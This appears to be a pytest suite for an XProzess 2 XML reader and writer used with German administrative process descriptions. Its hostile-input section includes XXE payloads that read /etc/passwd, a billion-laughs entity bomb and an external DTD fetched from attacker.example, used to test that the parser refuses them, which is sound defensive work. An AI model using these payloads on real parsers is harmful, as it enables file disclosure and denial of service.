"""XProzess 2 (alleInhalte.export.0303): reading, writing, hostile input, Steckbrief mapping."""

from __future__ import annotations

import base64
import dataclasses
from datetime import UTC, datetime, timedelta, timezone
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from app.catalog.schemas import SteckbriefSchema
from app.fim.xprozess import (
    XPROZESS_NS,
    LegalBasis,
    ModelFile,
    XProzessError,
    XProzessProcess,
    build_message,
    parse_message,
)
from app.fim.xprozess_mapping import from_steckbrief, to_steckbrief

DATA = Path(__file__).parent / "data"
ROOT = Path(__file__).resolve().parents[2]
EXAMPLE = (DATA / "alle-inhalte-export.xml").read_bytes()
GEWERBE_BPMN = (
    ROOT / "seed" / "musterregister" / "musterprozesse" / "gewerbe-anmelden.bpmn"
).read_bytes()
LIMIT = 10**6
CREATED = datetime(2024, 11, 5, 9, 30, tzinfo=timezone(timedelta(hours=1)))

GEWERBE = XProzessProcess(
    process_id="99050012104000",
    version="1.2",
    name="Gewerbe anmelden",
    bezeichnung="Gewerbeanzeige – Anmeldung eines stehenden Gewerbes",
    definition=(
        "Anzeige des Beginns eines stehenden Gewerbes bei der zuständigen Behörde nach § 14 GewO."
    ),
    beschreibung=(
        "Wer ein stehendes Gewerbe beginnt, zeigt dies gleichzeitig der zuständigen Behörde an. "
        "Die Gewerbemeldestelle prüft die Anzeige und bescheinigt den Empfang; die Daten gehen an "
        "Finanzamt, Kammern und weitere Stellen."
    ),
    ausloeser="Beginn eines stehenden Gewerbes oder einer Zweigniederlassung",
    ergebnis="Gewerbe im Gewerberegister erfasst, Empfangsbescheinigung erteilt",
    prozessteilnehmer=("Gewerbetreibende Person", "Gewerbemeldestelle", "Finanzamt"),
    handlungsgrundlagen=(
        LegalBasis(
            "§ 14 Gewerbeordnung (GewO)", "https://www.gesetze-im-internet.de/gewo/__14.html"
        ),
        LegalBasis(
            "Gewerbeanzeigeverordnung (GewAnzV)", "https://www.gesetze-im-internet.de/gewanzv_2014/"
        ),
    ),
    model=ModelFile("gewerbe-anmelden.bpmn", "application/bpmn+xml", GEWERBE_BPMN),
)
HUNDESTEUER = XProzessProcess(
    process_id="99102013002000",
    version="2.0",
    name="Hundesteuer anmelden",
    beschreibung=(
        "Wer einen Hund hält, meldet ihn beim Steueramt an. Das Steueramt setzt die Steuer per "
        "Bescheid fest und gibt die Steuermarke aus."
    ),
    ausloeser="Aufnahme eines Hundes in den Haushalt\nZuzug mit Hund",
    ergebnis="Hundesteuer festgesetzt, Steuermarke ausgegeben",
    prozessteilnehmer=("Hundehalterin oder Hundehalter", "Steueramt"),
    handlungsgrundlagen=(
        LegalBasis(
            "Art. 105 Abs. 2a Grundgesetz (GG)",
            "https://www.gesetze-im-internet.de/gg/art_105.html",
        ),
        LegalBasis(
            "§ 155 Abgabenordnung (AO)", "https://www.gesetze-im-internet.de/ao_1977/__155.html"
        ),
    ),
)


def _message(*processes: str, root: str = "alleInhalte.export.0303") -> bytes:
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><xprozess:{root} xmlns:xprozess="{XPROZESS_NS}">'
        f"<xprozess:prozessbibliothek>{''.join(processes)}</xprozess:prozessbibliothek>"
        f"</xprozess:{root}>"
    ).encode()


def _prozess(body: str) -> str:
    return f"<xprozess:prozess>{body}</xprozess:prozess>"


def _model_file(content: str) -> str:
    return _prozess(
        "<xprozess:id>1</xprozess:id><xprozess:name>P</xprozess:name>"
        "<xprozess:prozessmodell><xprozess:prozessmodelldatei>"
        "<xprozess:dateiname>p.bpmn</xprozess:dateiname>"
        f"<xprozess:inhalt>{content}</xprozess:inhalt>"
        "</xprozess:prozessmodelldatei></xprozess:prozessmodell>"
    )


# --- reading -----------------------------------------------------------------------------------


def test_the_example_message_yields_every_field_of_both_processes():
    gewerbe, hundesteuer = parse_message(EXAMPLE, max_bytes=LIMIT)

    assert gewerbe == GEWERBE
    assert gewerbe.model is not None and gewerbe.model.data == GEWERBE_BPMN
    assert hundesteuer == HUNDESTEUER  # its activity group adds § 155 AO, not GG a second time


@pytest.mark.parametrize(
    "rewrite",
    [
        pytest.param(
            lambda text: text.replace("xprozess:", "fim:").replace("xmlns:xprozess", "xmlns:fim"),
            id="other-prefix",
        ),
        pytest.param(
            lambda text: text.replace("xprozess:", "").replace("xmlns:xprozess", "xmlns"),
            id="default-namespace",
        ),
        pytest.param(
            lambda text: text.replace("<xprozess:", "<")
            .replace("</xprozess:", "</")
            .replace("<alleInhalte", "<xprozess:alleInhalte")
            .replace("</alleInhalte", "</xprozess:alleInhalte"),
            id="unqualified-children",
        ),
    ],
)
def test_any_prefix_and_unqualified_children_read_the_same(rewrite):
    rewritten = rewrite(EXAMPLE.decode()).encode()
    assert rewritten != EXAMPLE
    assert parse_message(rewritten, max_bytes=LIMIT) == [GEWERBE, HUNDESTEUER]


def test_steckbrief_texts_directly_under_the_process_are_read_too():
    data = _message(
        _prozess(
            "<xprozess:id> 99050012104000 </xprozess:id><xprozess:name>Gewerbe anmelden</xprozess:name>"
            "<xprozess:beschreibung>Flach</xprozess:beschreibung>"
            "<xprozess:ausloeser>Beginn</xprozess:ausloeser>"
            "<xprozess:handlungsgrundlage><xprozess:name>GewO</xprozess:name></xprozess:handlungsgrundlage>"
        )
    )
    (process,) = parse_message(data, max_bytes=LIMIT)
    assert process.process_id == "99050012104000"
    assert (process.beschreibung, process.ausloeser) == ("Flach", "Beginn")
    assert process.handlungsgrundlagen == (LegalBasis("GewO", None),)
    assert process.version is None and process.model is None


def test_an_empty_library_has_no_processes():
    assert parse_message(_message(), max_bytes=LIMIT) == []


def test_the_bpmn_file_is_chosen_among_several_model_files():
    files = "".join(
        "<xprozess:prozessmodelldatei>"
        f"<xprozess:dateiname>{name}</xprozess:dateiname>"
        f"<xprozess:inhalt>{base64.b64encode(content).decode()}</xprozess:inhalt>"
        "</xprozess:prozessmodelldatei>"
        for name, content in (("bericht.pdf", b"%PDF"), ("modell.bpmn", GEWERBE_BPMN))
    )
    data = _message(
        _prozess(
            "<xprozess:id>1</xprozess:id><xprozess:name>P</xprozess:name>"
            f"<xprozess:prozessmodell>{files}</xprozess:prozessmodell>"
        )
    )
    (process,) = parse_message(data, max_bytes=LIMIT)
    assert process.model == ModelFile("modell.bpmn", "application/bpmn+xml", GEWERBE_BPMN)


# --- hostile and broken input ------------------------------------------------------------------

XXE = f"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<xprozess:alleInhalte.export.0303 xmlns:xprozess="{XPROZESS_NS}"><xprozess:prozessbibliothek>
<xprozess:prozess><xprozess:id>1</xprozess:id><xprozess:name>&secret;</xprozess:name></xprozess:prozess>
</xprozess:prozessbibliothek></xprozess:alleInhalte.export.0303>""".encode()

_LAUGHS = "".join(f' <!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">\n' for n in range(2, 10)).replace(
    "&lol1;", "&lol;"
)
BILLION_LAUGHS = (
    f'<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n{_LAUGHS}]>\n'
    f'<xprozess:alleInhalte.export.0303 xmlns:xprozess="{XPROZESS_NS}">&lol9;'
    "</xprozess:alleInhalte.export.0303>"
).encode()

_DOCTYPE_ENTITY = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e {}>]>'
UNUSED_ENTITY = _DOCTYPE_ENTITY.format('"unbenutzt"').encode() + _message().split(b"?>", 1)[1]
XXE_IN_ATTRIBUTE = (
    _DOCTYPE_ENTITY.format('SYSTEM "file:///etc/passwd"')
    + f'<xprozess:alleInhalte.export.0303 xmlns:xprozess="{XPROZESS_NS}" a="&e;"/>'
).encode()

REFUSED = {
    "xxe": (XXE, "external-entity"),
    "billion-laughs": (BILLION_LAUGHS, "entities"),
    "unused-entity": (UNUSED_ENTITY, "entities"),
    "xxe-in-attribute": (XXE_IN_ATTRIBUTE, "external-entity"),
    "external-dtd": (
        b'<?xml version="1.0"?><!DOCTYPE x SYSTEM "http://attacker.example/evil.dtd">'
        + _message().split(b"?>", 1)[1],
        "external-dtd",
    ),
    "doctype": (b'<?xml version="1.0"?><!DOCTYPE x>' + _message().split(b"?>", 1)[1], "doctype"),
    "not-xml": (b"Name;LeiKa\nGewerbe anmelden;99050012104000\n", "not-xml"),
    "binary": (bytes(range(256)) * 4, "not-xml"),
    "truncated": (EXAMPLE[:2000], "not-xml"),
    "empty": (b" \n ", "empty"),
    "bpmn-instead": (GEWERBE_BPMN, "not-xprozess"),
    "wrong-message": (_message(root="prozess.export.0302"), "not-xprozess"),
    "wrong-namespace": (
        EXAMPLE.replace(b"regierung-mv.de/xprozess/2", b"regierung-mv.de/xprozess/1"),
        "not-xprozess",
    ),
    "no-namespace": (b"<alleInhalte.export.0303/>", "not-xprozess"),
    "missing-id": (_message(_prozess("<xprozess:name>P</xprozess:name>")), "missing-id"),
    "blank-id": (
        _message(_prozess("<xprozess:id> </xprozess:id><xprozess:name>P</xprozess:name>")),
        "missing-id",
    ),
    "missing-name": (_message(_prozess("<xprozess:id>1</xprozess:id>")), "missing-name"),
    "blank-name": (
        _message(_prozess("<xprozess:id>1</xprozess:id><xprozess:name>\n</xprozess:name>")),
        "missing-name",
    ),
    "bad-base64": (_message(_model_file("PD94bWwg!dmVyc2lvbj0=")), "bad-base64"),
    "truncated-base64": (_message(_model_file("PD94bWw")), "bad-base64"),
    "non-ascii-base64": (_message(_model_file("PD94bWwgä")), "bad-base64"),
    "model-without-content": (
        _message(_model_file("").replace("<xprozess:inhalt></xprozess:inhalt>", "")),
        "incomplete-model",
    ),
    "model-without-name": (
        _message(_model_file("").replace("<xprozess:dateiname>p.bpmn</xprozess:dateiname>", "")),
        "incomplete-model",
    ),
}


@pytest.mark.parametrize("name", sorted(REFUSED))
def test_hostile_and_broken_input_is_refused_with_a_precise_german_reason(name):
    data, code = REFUSED[name]
    with pytest.raises(XProzessError) as refused:  # any other exception fails the test
        parse_message(data, max_bytes=LIMIT)
    assert refused.value.code == code
    assert refused.value.message[0].isupper()
    assert refused.value.as_dict() == {"code": code, "message": refused.value.message}


def test_xxe_never_reads_the_file():
    with pytest.raises(XProzessError) as refused:
        parse_message(XXE, max_bytes=LIMIT)
    assert "root:" not in refused.value.message


def test_the_message_size_limit_applies_before_parsing():
    with pytest.raises(XProzessError) as refused:
        parse_message(BILLION_LAUGHS, max_bytes=100)
    assert refused.value.code == "too-large"


def test_a_model_file_larger_than_the_limit_is_refused():
    with pytest.raises(XProzessError) as refused:
        parse_message(EXAMPLE, max_bytes=LIMIT, max_model_bytes=len(GEWERBE_BPMN) - 1)
    assert refused.value.code == "model-too-large"
    assert "Prozess 1 (99050012104000)" in refused.value.message
    assert parse_message(EXAMPLE, max_bytes=LIMIT, max_model_bytes=len(GEWERBE_BPMN))


def test_a_text_node_beyond_the_parser_limit_is_a_too_large_model():
    content = "A" * 10_000_004
    with pytest.raises(XProzessError) as refused:
        parse_message(_message(_model_file(content)), max_bytes=2 * len(content))
    assert refused.value.code == "model-too-large"


def test_syntax_errors_name_line_and_column():
    with pytest.raises(XProzessError) as refused:
        parse_message(b'<?xml version="1.0"?>\n<a>\n  <b></a>', max_bytes=LIMIT)
    assert refused.value.code == "not-xml"
    assert "Zeile 3" in refused.value.message


def test_a_unicode_string_is_not_readable_xml():
    with pytest.raises(XProzessError) as refused:
        parse_message(EXAMPLE.decode(), max_bytes=LIMIT)  # type: ignore[arg-type]
    assert refused.value.code == "not-xml"


# --- writing -----------------------------------------------------------------------------------


def _build(processes: list[XProzessProcess]) -> bytes:
    return build_message(
        processes, sender="Musterregister Sachsen", created_at=CREATED, message_id="m-1"
    )


def test_build_then_parse_gives_the_processes_back():
    assert parse_message(_build([GEWERBE, HUNDESTEUER]), max_bytes=LIMIT) == [GEWERBE, HUNDESTEUER]


def test_the_message_is_deterministic_utf8_in_the_expected_structure():
    data = _build([GEWERBE, HUNDESTEUER])
    assert data == _build([GEWERBE, HUNDESTEUER])
    assert data.startswith(
        b"<?xml version='1.0' encoding='UTF-8'?>\n<xprozess:alleInhalte.export.0303"
    )
    root = etree.fromstring(data)
    ns = {"x": XPROZESS_NS}
    assert root.findtext("x:nachrichtenkopf/x:nachrichtID", namespaces=ns) == "m-1"
    assert (
        root.findtext("x:nachrichtenkopf/x:erstellungszeitpunkt", namespaces=ns)
        == "2024-11-05T09:30:00+01:00"
    )
    assert root.findtext("x:nachrichtenkopf/x:absender", namespaces=ns) == "Musterregister Sachsen"
    first = root.find("x:prozessbibliothek/x:prozess", namespaces=ns)
    assert [etree.QName(child).localname for child in first] == [
        "id",
        "version",
        "name",
        "prozesssteckbrief",
        "prozessmodell",
    ]
    datei = first.find("x:prozessmodell/x:prozessmodelldatei", namespaces=ns)
    assert base64.b64decode(datei.findtext("x:inhalt", namespaces=ns)) == GEWERBE_BPMN


def test_edge_values_survive_the_round_trip():
    process = XProzessProcess(
        process_id="intern-7",
        version=None,
        name=" Name mit Leerraum\r\n",
        bezeichnung="",
        definition="<b>&amp; ]]>",
        beschreibung="Zeile 1\r\nZeile 2\tTab",
        ausloeser="",
        prozessteilnehmer=("", "Ämter & Co"),
        handlungsgrundlagen=(LegalBasis("", ""), LegalBasis("ohne URL")),
        model=ModelFile(" leer.bin", "application/octet-stream", b""),
    )
    assert parse_message(_build([process]), max_bytes=LIMIT) == [process]


@pytest.mark.parametrize(
    ("change", "code"),
    [
        ({"process_id": " "}, "invalid-process"),
        ({"process_id": " 99050012104000"}, "invalid-process"),
        ({"version": ""}, "invalid-process"),
        ({"name": " \n"}, "invalid-process"),
        ({"model": ModelFile(" ", "application/bpmn+xml", b"")}, "invalid-process"),
        ({"model": ModelFile("a.bpmn", "", b"")}, "invalid-process"),
        ({"beschreibung": "Steuerzeichen \x0b"}, "invalid-characters"),
        ({"name": "Halb\ud800"}, "invalid-characters"),
    ],
)
def test_build_refuses_what_it_could_not_read_back(change, code):
    with pytest.raises(XProzessError) as refused:
        _build([dataclasses.replace(HUNDESTEUER, **change)])
    assert refused.value.code == code


def test_build_needs_an_aware_timestamp():
    with pytest.raises(XProzessError):
        build_message([], sender="s", created_at=datetime(2024, 1, 1), message_id="m")
    assert build_message(
        [], sender="s", created_at=datetime(2024, 1, 1, tzinfo=UTC), message_id="m"
    )


# --- mapping to and from the Steckbrief --------------------------------------------------------


def test_to_steckbrief_fills_what_the_steckbrief_can_hold():
    steckbrief = to_steckbrief(GEWERBE)
    assert steckbrief == {
        "title": "Gewerbeanzeige – Anmeldung eines stehenden Gewerbes",
        "description": (
            f"{GEWERBE.beschreibung}\n\nDefinition: {GEWERBE.definition}\n\n"
            "Prozessteilnehmer: Gewerbetreibende Person; Gewerbemeldestelle; Finanzamt"
        ),
        "trigger": GEWERBE.ausloeser,
        "result": GEWERBE.ergebnis,
        "legal_bases": [
            {
                "text": "§ 14 Gewerbeordnung (GewO)",
                "url": "https://www.gesetze-im-internet.de/gewo/__14.html",
            },
            {
                "text": "Gewerbeanzeigeverordnung (GewAnzV)",
                "url": "https://www.gesetze-im-internet.de/gewanzv_2014/",
            },
        ],
        "leika_keys": ["99050012104000"],
        "keywords": ["Gewerbe anmelden"],
    }
    assert SteckbriefSchema().validate(steckbrief) == {}


def test_to_steckbrief_without_bezeichnung_or_leika_key():
    process = dataclasses.replace(HUNDESTEUER, process_id="P-4711", prozessteilnehmer=())
    steckbrief = to_steckbrief(process)
    assert steckbrief["title"] == "Hundesteuer anmelden"
    assert steckbrief["description"] == HUNDESTEUER.beschreibung
    assert steckbrief["leika_keys"] == [] and steckbrief["keywords"] == []
    assert SteckbriefSchema().validate(steckbrief) == {}


def test_a_definition_already_in_the_description_is_not_repeated():
    process = dataclasses.replace(HUNDESTEUER, definition="beim Steueramt an", prozessteilnehmer=())
    assert to_steckbrief(process)["description"] == HUNDESTEUER.beschreibung


def test_only_web_links_stay_links_and_empty_legal_bases_are_dropped():
    process = dataclasses.replace(
        HUNDESTEUER,
        handlungsgrundlagen=(
            LegalBasis("Hundesteuersatzung", "urn:de:musterstadt:satzung:hundesteuer"),
            LegalBasis("", "https://recht.nrw.de/"),
            LegalBasis("  ", None),
            LegalBasis("KAG NRW", "HTTPS://recht.nrw.de/kag"),
        ),
    )
    assert to_steckbrief(process)["legal_bases"] == [
        {"text": "Hundesteuersatzung (urn:de:musterstadt:satzung:hundesteuer)", "url": None},
        {"text": "https://recht.nrw.de/", "url": "https://recht.nrw.de/"},
        {"text": "KAG NRW", "url": "HTTPS://recht.nrw.de/kag"},
    ]


def test_the_mapping_round_trip_keeps_what_the_steckbrief_holds():
    for process in (GEWERBE, HUNDESTEUER):
        back = from_steckbrief(
            to_steckbrief(process),
            process_id=process.process_id,
            version=process.version,
            model=process.model,
        )
        # the title is the bezeichnung where there is one; XProzess needs it as the name
        assert back == dataclasses.replace(
            process, name=process.bezeichnung or process.name, bezeichnung=None
        )


def test_from_steckbrief_takes_the_stored_steckbrief_shape():
    steckbrief = {
        "title": "Gewerbe anmelden",
        "description": "Definition: Nur eine Definition",
        "trigger": "  ",
        "result": None,
        "legal_bases": [{"text": "§ 14 GewO", "url": None}],
        "fees": "26,00 €",
        "keywords": ["Gewerbeschein"],
    }
    process = from_steckbrief(steckbrief, process_id="99050012104000", version="3", model=None)
    assert process == XProzessProcess(
        process_id="99050012104000",
        version="3",
        name="Gewerbe anmelden",
        definition="Nur eine Definition",
        handlungsgrundlagen=(LegalBasis("§ 14 GewO", None),),
    )


def test_from_steckbrief_needs_a_title():
    with pytest.raises(XProzessError) as refused:
        from_steckbrief({"title": " "}, process_id="1", version=None, model=None)
    assert refused.value.code == "missing-name"


# --- properties --------------------------------------------------------------------------------

XML_CHAR = st.characters(
    min_codepoint=0x20, max_codepoint=0xFFFD, exclude_categories=("Cs",)
) | st.sampled_from("\t\n\r")
TEXT = st.text(XML_CHAR, max_size=40)
IDENT = TEXT.filter(lambda s: s.strip() and s == s.strip())
NAME = TEXT.filter(str.strip)
PROCESSES = st.builds(
    XProzessProcess,
    process_id=IDENT,
    version=st.none() | IDENT,
    name=NAME,
    bezeichnung=st.none() | TEXT,
    definition=st.none() | TEXT,
    beschreibung=st.none() | TEXT,
    ausloeser=st.none() | TEXT,
    ergebnis=st.none() | TEXT,
    prozessteilnehmer=st.lists(TEXT, max_size=3).map(tuple),
    handlungsgrundlagen=st.lists(st.builds(LegalBasis, TEXT, st.none() | TEXT), max_size=3).map(
        tuple
    ),
    model=st.none() | st.builds(ModelFile, NAME, NAME, st.binary(max_size=200)),
)


@settings(max_examples=150, deadline=None, database=None, derandomize=True)
@given(st.lists(PROCESSES, max_size=3))
def test_property_parse_inverts_build(processes):
    assert parse_message(_build(processes), max_bytes=LIMIT) == processes


@settings(max_examples=300, deadline=None, database=None, derandomize=True)
@given(st.binary(max_size=300) | st.text(max_size=300).map(str.encode))
def test_property_arbitrary_bytes_give_processes_or_an_xprozess_error(data):
    try:
        assert isinstance(parse_message(data, max_bytes=LIMIT), list)
    except XProzessError as refused:
        assert refused.code and refused.message


PLAIN = st.text(
    st.characters(whitelist_categories=("L", "N")) | st.sampled_from(" .,-§"), max_size=30
)
WORDS = PLAIN.filter(lambda s: s.strip() and s == s.strip())


@settings(max_examples=150, deadline=None, database=None, derandomize=True)
@given(
    name=WORDS,
    beschreibung=st.none() | WORDS,
    definition=st.none() | WORDS,
    ausloeser=st.none() | WORDS,
    participants=st.lists(WORDS, max_size=3).map(tuple),
    urls=st.lists(
        st.none() | WORDS.map(lambda s: "https://example.org/" + s.replace(" ", "_")),
        max_size=3,
    ),
)
def test_property_mapping_round_trip(name, beschreibung, definition, ausloeser, participants, urls):
    process = XProzessProcess(
        process_id="99050012104000",
        version=None,
        name=name,
        beschreibung=beschreibung,
        definition=definition if definition and definition not in (beschreibung or "") else None,
        ausloeser=ausloeser,
        prozessteilnehmer=participants,
        handlungsgrundlagen=tuple(LegalBasis(f"Gesetz {i}", url) for i, url in enumerate(urls)),
    )
    assert (
        from_steckbrief(
            to_steckbrief(process), process_id="99050012104000", version=None, model=None
        )
        == process
    )


@settings(max_examples=200, deadline=None, database=None, derandomize=True)
@given(st.integers(0, len(EXAMPLE) - 1), st.integers(0, 64), st.binary(max_size=8))
def test_property_damaged_messages_give_processes_or_an_xprozess_error(start, length, patch):
    data = EXAMPLE[:start] + patch + EXAMPLE[start + length :]
    try:
        assert isinstance(parse_message(data, max_bytes=LIMIT), list)
    except XProzessError as refused:
        assert refused.code and refused.message
